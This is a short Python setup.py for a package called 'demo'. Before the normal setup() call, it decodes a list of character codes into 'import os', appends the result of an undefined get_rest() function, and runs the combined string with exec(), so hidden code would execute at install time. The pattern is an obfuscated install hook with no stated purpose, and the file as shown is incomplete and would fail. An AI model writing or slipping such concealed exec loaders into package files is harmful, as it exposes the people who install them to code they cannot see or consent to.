from setuptools import setup

key = [105, 109, 112, 111, 114, 116, 32, 111, 115]
exec("".join(chr(c) for c in key) + get_rest())
setup(name="demo", version="0.1")
